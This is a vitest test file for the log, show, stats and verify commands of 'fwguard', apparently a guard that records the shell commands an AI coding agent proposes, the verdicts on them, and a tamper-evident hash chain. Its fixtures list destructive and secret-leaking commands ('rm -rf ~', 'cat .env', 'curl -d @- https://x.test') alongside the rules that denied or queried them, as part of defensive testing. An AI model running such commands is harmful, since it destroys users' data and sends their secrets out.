// `fwguard log`, `log show`, `log stats`, `log verify`: run in-process on real trace files.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { captureOutput, runCommand } from '../helpers/cli.js';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { appendTrace, makeTraceRecord, type TraceRecord } from '../../src/audit/trace.js';
import type { Action, Verdict } from '../../src/types.js';
import Log from '../../commands/log.js';
import LogShow from '../../commands/log/show.js';
import LogStats from '../../commands/log/stats.js';
import LogVerify from '../../commands/log/verify.js';

const io = captureOutput();

type Cmd = { run(argv: string[], opts: { root: string }): Promise<unknown>; summary?: string; description?: string; examples?: unknown[] };
const ids = { log: Log, show: LogShow, stats: LogStats, verify: LogVerify } as const;

async function load(id: keyof typeof ids): Promise<Cmd> {
  return ids[id] as unknown as Cmd;
}

async function run(id: keyof typeof ids, argv: string[]): Promise<{ out: string; err: string; code: number }> {
  return runCommand(io, await load(id), argv);
}

let tmp: string;
let file: string;
const HOUR = 3600e3;

interface Spec {
  command: string;
  verdict: Verdict;
  session?: string;
  rule?: string;
  project?: string;
  hoursAgo: number;
  action?: string;
}

// Line numbers are the ids: #1 … #8.
const specs: Spec[] = [
  { command: 'rm -rf ~', verdict: 'deny', session: 'sA', rule: 'fs.delete-recursive-critical', project: '/w/app', hoursAgo: 30, action: 'fs.delete' },
  { command: 'ls -la', verdict: 'allow', session: 'sA', project: '/w/app', hoursAgo: 5, action: 'fs.list' },
  { command: 'cat .env', verdict: 'ask', session: 'sA', rule: 'fs.read.secret', project: '/w/app', hoursAgo: 4, action: 'fs.read' },
  { command: 'git push -f origin main', verdict: 'deny', session: 'sB', rule: 'git.push.force-protected', project: '/w/lib', hoursAgo: 3, action: 'git.push' },
  { command: 'npm test', verdict: 'allow', session: 'sB', project: '/w/lib', hoursAgo: 1.5, action: 'exec' },
  { command: 'rm -rf ~', verdict: 'deny', session: 'sB', rule: 'fs.delete-recursive-critical', project: '/w/lib', hoursAgo: 1, action: 'fs.delete' },
  { command: 'curl -d @- https://x.test', verdict: 'ask', session: 'sC', rule: 'net.send.unknown', project: '/w/app', hoursAgo: 0.5, action: 'net.send' },
  { command: 'echo hi', verdict: 'allow', session: 'sC', project: '/w/app', hoursAgo: 0.1, action: 'exec' },
];

function record(s: Spec): TraceRecord {
  return makeTraceRecord({
    proposal: { kind: 'shell', command: s.command, cwd: s.project ?? '/', session: s.session, agent: 'claude-code' },
    verdict: s.verdict,
    opaque: false,
    actions: s.action ? [{ type: s.action, cmd: 0, paths: ['/w/app/x'] } as unknown as Action] : [],
    reasons: s.rule ? [{ rule: s.rule, message: `because ${s.rule}`, verdict: s.verdict }] : [],
    durationMs: 0.5,
    projectRoot: s.project,
    time: new Date(Date.now() - s.hoursAgo * HOUR),
    extra: { event: 'PreToolUse', tool: 'Bash' },
  });
}

beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), 'fwguard-log-cli-'));
  file = join(tmp, 'trace.jsonl');
  for (const s of specs) appendTrace(record(s), file);
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** The ids (#N) in `fwguard log` output, in order. */
const idsIn = (text: string) => [...text.matchAll(/^\s*#(\d+) /gm)].map((m) => Number(m[1]));

describe('fwguard log', () => {
  it('prints each decision with its id (#line), newest last', async () => {
    const r = await run('log', ['--file', file]);
    expect(r.code).toBe(0);
    expect(idsIn(r.out)).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
    expect(r.out).toMatch(/^#4 \S+ DENY {2}claude-code git push -f origin main$/m);
    expect(r.out).toContain('    git.push.force-protected: because git.push.force-protected');
    expect(r.out).not.toContain('\u001b[');
  });

  it('--limit keeps the newest N (default 20)', async () => {
    expect(idsIn((await run('log', ['--file', file, '--limit', '3'])).out)).toEqual([6, 7, 8]);
    const big = join(tmp, 'big.jsonl');
    for (let i = 0; i < 25; i++) appendTrace(record({ ...specs[1]!, command: `c${i}` }), big);
    const r = await run('log', ['--file', big]);
    expect(idsIn(r.out)).toEqual(Array.from({ length: 20 }, (_, i) => i + 6));
    expect(idsIn((await run('log', ['--file', big, '--limit', '0'])).out)).toHaveLength(25);
  });

  it('--verdict: repeated or as a comma list', async () => {
    expect(idsIn((await run('log', ['--file', file, '--verdict', 'deny'])).out)).toEqual([1, 4, 6]);
    expect(idsIn((await run('log', ['--file', file, '--verdict', 'deny,ask'])).out)).toEqual([1, 3, 4, 6, 7]);
    expect(idsIn((await run('log', ['--file', file, '--verdict', 'deny', '--verdict', 'ask'])).out)).toEqual([1, 3, 4, 6, 7]);
    expect((await run('log', ['--file', file, '--verdict', 'maybe'])).code).toBe(3);
  });

  it('--session, --rule (exact or prefix*), --project', async () => {
    expect(idsIn((await run('log', ['--file', file, '--session', 'sB'])).out)).toEqual([4, 5, 6]);
    expect(idsIn((await run('log', ['--file', file, '--rule', 'fs.read.secret'])).out)).toEqual([3]);
    expect(idsIn((await run('log', ['--file', file, '--rule', 'fs.*'])).out)).toEqual([1, 3, 6]);
    expect(idsIn((await run('log', ['--file', file, '--project', '/w/lib'])).out)).toEqual([4, 5, 6]);
    expect(idsIn((await run('log', ['--file', file, '--project', '/w/app', '--verdict', 'ask'])).out)).toEqual([3, 7]);
    const none = await run('log', ['--file', file, '--session', 'nobody']);
    expect(none.code).toBe(0);
    expect(none.out).toContain('No decisions recorded that match');
  });

  it('--since: a duration ago or an ISO time; junk is a usage error (exit 3)', async () => {
    expect(idsIn((await run('log', ['--file', file, '--since', '2h'])).out)).toEqual([5, 6, 7, 8]);
    expect(idsIn((await run('log', ['--file', file, '--since', '1d'])).out)).toEqual([2, 3, 4, 5, 6, 7, 8]);
    const iso = new Date(Date.now() - 0.75 * HOUR).toISOString();
    expect(idsIn((await run('log', ['--file', file, '--since', iso])).out)).toEqual([7, 8]);
    const bad = await run('log', ['--file', file, '--since', 'yesterday']);
    expect(bad.code).toBe(3);
    expect(bad.err).toContain('--since yesterday');
  });

  it('--json: one record per line, with its id as "line"', async () => {
    const r = await run('log', ['--file', file, '--json', '--verdict', 'deny']);
    const rows = r.out.trim().split('\n').map((l) => JSON.parse(l) as TraceRecord & { line: number });
    expect(rows.map((x) => [x.line, x.proposal.command])).toEqual([
      [1, 'rm -rf ~'],
      [4, 'git push -f origin main'],
      [6, 'rm -rf ~'],
    ]);
    expect(rows[0]!.prev).toMatch(/^0{64}$/);
  });

  it('colour only when asked for: NO_COLOR wins, a non-TTY gets none', async () => {
    delete process.env.NO_COLOR;
    expect((await run('log', ['--file', file])).out).not.toContain('\u001b['); // vitest's stdout is no TTY
    process.env.FORCE_COLOR = '1';
    expect((await run('log', ['--file', file])).out).toContain('\u001b[');
    process.env.NO_COLOR = '1';
    expect((await run('log', ['--file', file])).out).not.toContain('\u001b[');
    for (const id of ['show', 'stats', 'verify'] as const) {
      expect((await run(id, id === 'show' ? ['1', '--file', file] : ['--file', file])).out, id).not.toContain('\u001b[');
    }
  });
});

describe('fwguard log show', () => {
  it('prints one decision in full', async () => {
    const r = await run('show', ['4', '--file', file]);
    expect(r.code).toBe(0);
    for (const s of [
      '#4  DENY',
      'session   sB',
      'agent     claude-code',
      'project   /w/lib',
      'command   git push -f origin main',
      'reasons (1)',
      'DENY  git.push.force-protected: because git.push.force-protected',
      'actions (1)',
      'git.push cmd=0 paths=["/w/app/x"]',
      'event     PreToolUse',
      'tool      Bash',
      'prev ',
    ]) {
      expect(r.out, s).toContain(s);
    }
  });

  it('--json is the record as stored', async () => {
    const r = await run('show', ['2', '--file', file, '--json']);
    const line = readFileSync(file, 'utf8').split('\n')[1]!;
    expect(JSON.parse(r.out)).toEqual(JSON.parse(line));
  });

  it('an unknown id exits 1 with a hint; a non-number is a usage error', async () => {
    const r = await run('show', ['99', '--file', file]);
    expect(r.code).toBe(1);
    expect(r.err).toContain('No decision #99');
    expect((await run('show', ['abc', '--file', file])).code).toBe(3);
    expect((await run('show', ['0', '--file', file])).code).toBe(3);
  });
});

describe('fwguard log stats', () => {
  it('counts by verdict, rule, action type, session; top denied and asked with their newest id', async () => {
    const r = await run('stats', ['--file', file]);
    expect(r.code).toBe(0);
    expect(r.out).toContain('8 decisions from');
    expect(r.out).toMatch(/deny 3 {3}ask 2 {3}allow 3/);
    const section = (title: string) => r.out.split(`\n${title}\n`)[1]!.split('\n\n')[0]!;
    expect(section('Top denied').split('\n')).toEqual([
      '  2×  #6  rm -rf ~  fs.delete-recursive-critical',
      '  1×  #4  git push -f origin main  git.push.force-protected',
    ]);
    expect(section('Top asked')).toContain('#7  curl -d @- https://x.test  net.send.unknown');
    expect(section('By rule')).toMatch(/fs\.delete-recursive-critical\s+2/);
    expect(section('By action type')).toMatch(/exec\s+2/);
    expect(section('By session')).toMatch(/sA\s+3\n\s+sB\s+3\n\s+sC\s+2/);
  });

  it('--since and --json', async () => {
    const r = await run('stats', ['--file', file, '--since', '2h', '--json']);
    const s = JSON.parse(r.out) as { records: number; byVerdict: Record<string, number>; topDenied: { what: string; count: number; last: number }[]; bySession: { key: string; count: number }[] };
    expect(s.records).toBe(4);
    expect(s.byVerdict).toEqual({ allow: 2, ask: 1, deny: 1 });
    expect(s.topDenied).toEqual([{ what: 'rm -rf ~', count: 1, last: 6, rules: ['fs.delete-recursive-critical'] }]);
    expect(s.bySession).toEqual([
      { key: 'sC', count: 2 },
      { key: 'sB', count: 2 },
    ].sort((a, b) => b.count - a.count || a.key.localeCompare(b.key)));
  });

  it('an empty selection says so', async () => {
    const r = await run('stats', ['--file', join(tmp, 'none.jsonl')]);
    expect(r.code).toBe(0);
    expect(r.out).toContain('No decisions recorded');
  });
});

describe('fwguard log verify', () => {
  it('intact: exit 0 with the record count and the head hash', async () => {
    const r = await run('verify', ['--file', file]);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/^OK .*trace\.jsonl: 8 records, chain intact\.\nhead [0-9a-f]{64}\n$/);
  });

  it('broken: exit 1, the first bad line, why, and what to do', async () => {
    const copy = join(tmp, 'edited.jsonl');
    const lines = readFileSync(file, 'utf8').split('\n');
    lines[3] = lines[3]!.replace('"verdict":"deny"', '"verdict":"allow"'); // line 4 edited
    writeFileSync(copy, lines.join('\n'));
    const r = await run('verify', ['--file', copy]);
    expect(r.code).toBe(1);
    expect(r.out).toContain('BROKEN');
    expect(r.out).toContain('line 5 of 8: line 5 does not follow line 4: line 4 was edited, or records between them were deleted.');
    expect(r.out).toContain('What to do:');
    expect(r.out).toContain('log show 4');
    expect(r.out).toContain(`mv '${copy}'`);
    const j = await run('verify', ['--file', copy, '--json']);
    expect(j.code).toBe(1);
    expect(JSON.parse(j.out)).toMatchObject({ path: copy, ok: false, records: 8, firstBad: { line: 5 } });
  });

  it('a torn last line is named as such', async () => {
    const copy = join(tmp, 'torn.jsonl');
    writeFileSync(copy, readFileSync(file, 'utf8') + '{"prev":"');
    const r = await run('verify', ['--file', copy]);
    expect(r.code).toBe(1);
    expect(r.out).toContain('line 9 of 9: torn last line');
  });

  it('no file: nothing to verify, exit 0', async () => {
    const r = await run('verify', ['--file', join(tmp, 'absent.jsonl')]);
    expect(r.code).toBe(0);
    expect(r.out).toContain('nothing to verify');
  });
});

describe('help', () => {
  it('every log command has a summary, a description and examples', async () => {
    for (const id of Object.keys(ids) as (keyof typeof ids)[]) {
      const c = await load(id);
      expect(c.summary, id).toBeTruthy();
      expect(c.description, id).toBeTruthy();
      expect(c.examples?.length, id).toBeGreaterThan(0);
    }
  });
});
